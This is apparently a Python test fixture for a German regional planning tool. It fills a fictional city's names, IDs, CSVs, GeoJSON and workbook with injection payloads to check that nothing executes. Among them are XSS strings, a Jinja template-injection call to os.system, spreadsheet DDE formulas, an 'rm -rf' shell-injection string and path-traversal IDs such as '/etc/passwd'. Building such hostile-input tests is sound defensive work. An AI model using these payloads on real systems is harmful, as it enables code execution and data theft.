"""A city in whose every text somebody tries to run something: in the browser, in Jinja, in Python, in a spreadsheet.

Each payload that runs in a page sets window.sozialraumRan; each that runs in Python makes a file named RAN.
"""

import csv
import io
import json
import re
import tempfile
from pathlib import Path

from cities import CRS, PROJECT, SOUTH, WEST, feature, geojson, square, write_city
from sources.workbooks import xlsx

RAN = "python-ran-a-payload"
JS = "window.sozialraumRan=1"
JINJA = "{{ cycler.__init__.__globals__.os.system('touch " + RAN + "') }}"

PAYLOADS = (
    f"<script>{JS}</script>",
    f'<img src=x onerror="{JS}">',
    f"`+({JS})+`",
    f"\\`+({JS})+\\`",
    f"${{{JS}}}",
    f"</script><script>{JS}</script>",
    "{{7*7}}",
    JINJA,
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% include '/etc/hostname' %}{% raise %}",
    "{% for x in range(3) %}{# {{ x }} #}{% endfor %}",
    f"');{JS};('",
    f'");{JS};("',
    f"&lt;img src=x onerror={JS}&gt; &amp; &#x3c;",
    f'" onmouseover="{JS}" autofocus onfocus="{JS}',
    f"' onclick='{JS}' x='",
    f"</title></style></textarea></select><svg onload={JS}>",
    f"<!--><img src=x onerror={JS}>--> ]]>",
    '<base href="https://boese.example/"><meta http-equiv="refresh" content="0;url=https://boese.example/">',
    '<form action="https://boese.example/"><button>Weiter</button></form><iframe src="https://boese.example/">',
    f'<a href="javascript:{JS}">hier</a>',
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://boese.example/?x="&A1;"hier")',
    "Haus;=cmd|' /C calc'!A0;\"=1+1\"",
    "+49+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "vorher\u2028nachher\u2029ende",
    "rechts\u202eskniL\u202c links\u200b",
    "Ton\u0007 und Flucht\u001b[31m",
    "%s %n {0} {value} {file} $(touch x) ; rm -rf x | cat",
    "__proto__",
    "constructor",
)
# ids that would be a path, a device, one of our own files, or the same file on some systems
IDS = (
    "../../x",
    "..\\..\\y",
    "CON",
    "a",
    "A",
    "Wulfen/Barkenberg",
    "index",
    "data",
    "lizenzen",
    "manifest",
    "nul.txt",
    "/etc/passwd",
    "C:\\Windows",
    "__proto__",
    JINJA,
    "=1+1",
)
# further areas whose names are as hostile as their ids
NAMED = {
    "CON": "CON",
    "a": "a",
    "A": "A",
    "Wulfen/Barkenberg": "Wulfen/Barkenberg",
    "index": "index",
    "data": "data",
    "../../x": "../../x",
    "lizenzen": "Lizenzen",
    "manifest": "manifest.json",
}
REGISTER = f"""[addresses]
file = "addresses/register.csv"
source = "jugendamt"
crs = "{CRS}"
columns = {{ street = "STRASSE", house_number = "HNR", place = "ORT", x = "RECHTS", y = "HOCH" }}

"""
SCRIPT_URL = f"javascript:{JS}"
FIELDS = re.compile(r'\b(de|en|title|publisher|licence|rule|set_by) = "((?:[^"\\]|\\.)*)"')
WIDTH = 8


def toml(text: str) -> str:
    """A TOML string."""
    return json.dumps(text, ensure_ascii=False)


def area_names() -> dict[str, str]:
    """area id -> name: every payload is a name, every hostile id is an id."""
    names = {f"p{number:02}": payload for number, payload in enumerate(PAYLOADS)}
    return names | {id_: NAMED.get(id_, f"Gebiet {number}") for number, id_ in enumerate(IDS)}


def hostile_project() -> tuple[str, dict[str, list[str]]]:
    """(projekt.toml, its texts by key): every text of the fixture city's is replaced by a payload of its own."""
    used: dict[str, list[str]] = {}
    count = 0

    def replaced(match: re.Match[str]) -> str:
        nonlocal count
        text = f"{PAYLOADS[count % len(PAYLOADS)]} {count}"
        count += 1
        used.setdefault(match[1], []).append(text)
        return f"{match[1]} = {toml(text)}"

    head, _, rest = PROJECT.partition("[[joint_areas]]")
    _, _, tail = rest.partition("[disclosure")
    project = FIELDS.sub(replaced, f"{head}[disclosure{tail}")
    city = f"{PAYLOADS[1]} {JINJA}"
    used["city"] = [city]
    project = project.replace('name = "Musterstadt"', f"name = {toml(city)}")
    project = project.replace("[sources.melderegister]", f"[sources.melderegister]\nurl = {toml(SCRIPT_URL)}")
    project = project.replace("[sources.geo]", '[sources.geo]\nurl = "https://geo.example/\\"><script>"')
    return project.replace('file = "indicators/anteile.csv"', 'note = "n"\nfile = "indicators/anteile.csv"'), used


def table(rows: list[list[object]]) -> str:
    text = io.StringIO()
    csv.writer(text, delimiter=";", lineterminator="\n").writerows(rows)
    return text.getvalue()


def workbook(rows: list[list[object]]) -> bytes:
    with tempfile.TemporaryDirectory() as folder:
        return xlsx(Path(folder) / "a.xlsx", {"=1+1": rows, "Notiz": [["<b>"]]}).read_bytes()


def hostile_files() -> dict[str, str | bytes]:
    """Everything but projekt.toml."""
    names = area_names()
    corners = {id_: (number % WIDTH, number // WIDTH) for number, id_ in enumerate(names)}
    quarters = [
        feature(
            {"KEY": id_, "NAME": name, "<b>": PAYLOADS[0], JINJA: JINJA},
            {"type": "Polygon", "coordinates": square(*corners[id_])},
        )
        for id_, name in names.items()
    ]
    points = [
        feature({"nr": f"{payload} s", "name": payload}, {"type": "Point", "coordinates": [WEST + 99, SOUTH + 99]})
        for payload in PAYLOADS[:6]
    ]
    people: list[list[object]] = [["KEY", "KENNZAHL", "STICHTAG", "SEX", "WERT"]]
    shares: list[list[object]] = [["STADTTEIL", "KENNZAHL", "JAHR", "QUOTE", "ZAEHLER", "NENNER", "STATUS", "WORT"]]
    houses: list[list[object]] = [["NR", "NAME", "TRAEGER", "RECHTS", "HOCH", "KEY", "STATUS", "AB", "ANSCHRIFT"]]
    register: list[list[object]] = [["STRASSE", "HNR", "ORT", "RECHTS", "HOCH"]]
    places: list[list[object]] = [["NR", "GRUPPE", "KITAJAHR", "PLAETZE", "STUNDEN", "WORT"]]
    centres: list[list[object]] = [["NR", "SEIT", "VERBUND"]]
    for number, (id_, name) in enumerate(names.items()):
        word = PAYLOADS[number % len(PAYLOADS)]
        people.append([id_, "Einwohner", "31.12.2023", "insgesamt", 1000 + number])
        people.append([id_, "Kinder u3", "31.12.2023", "insgesamt", 40 + number])
        rates = ("SGB II", "Alleinerziehende")
        shares += [[name, rate, "2023", "", 20 + number, 200, "", f"{word} wert"] for rate in rates]
        east, north = corners[id_]
        x, y = WEST + 1000 * east + 500, SOUTH + 1000 * north + 500
        key = f"{id_} k"
        houses.append([key, f"{word} Haus", f"{word} Träger", x, y, id_, "offen", "", ""])
        register.append([f"{word} Weg", number + 1, f"{word} Ort", x, y])
        # a street that the register knows by another number only, so that the report quotes it
        houses.append([f"{id_} g", f"{word} Ferne", word, "", "", id_, "offen", "", f"{word} Weg {number + 200}"])
        places.append([key, "U3", "2023/24", 10, 45, f"{word} Platz"])
        if number % 3 == 0:
            centres.append([key, "2019", f"{word} Verbund"])
    # one that stands outside, so that its name is quoted by a warning
    houses.append([f"{JINJA} weg", f"{JINJA} außen", PAYLOADS[0], WEST - 9999, SOUTH, "", "offen", "", ""])
    bezirke: list[list[object]] = [["KEY", "BEZIRK", "BEZIRK_NAME"]]
    bezirke += [[id_, f"../{PAYLOADS[0]}", f"{PAYLOADS[5]} Bezirk"] for id_ in names]
    return {
        "boundaries/stadtteile.geojson": geojson(quarters),
        "boundaries/bezirke.csv": table(bezirke),
        "indicators/bevoelkerung.csv": table(people),
        "indicators/anteile.csv": table(shares),
        "indicators/schulen.csv": table([["SCHULE", "SCHULJAHR", "STUFE"], [f"{PAYLOADS[0]} s", "2023/24", 4]]),
        "facilities/kitas.csv": table(houses),
        "facilities/schulen.geojson": geojson(points),
        "facilities/plaetze.csv": table(places),
        "facilities/familienzentren.xlsx": workbook(centres),
        "addresses/register.csv": table(register),
    }


def write_hostile_city(folder: Path) -> Path:
    """Write it and return the path of its projekt.toml."""
    project, _ = hostile_project()
    project = project.replace('status = "STATUS" }', 'status = "STATUS", note = "WORT" }')
    project = project.replace('weekly_hours = "STUNDEN" }', 'weekly_hours = "STUNDEN", note = "WORT" }')
    project = project.replace('note = "n"\n', "")
    project = project.replace("familienzentren.csv", "familienzentren.xlsx")
    project = project.replace('x = "RECHTS", y = "HOCH", ', 'x = "RECHTS", y = "HOCH", address = "ANSCHRIFT", ', 1)
    project = project.replace("[disclosure.oeffentlich]", f"{REGISTER}[disclosure.oeffentlich]")
    return write_city(folder, add=hostile_files() | {"projekt.toml": project})
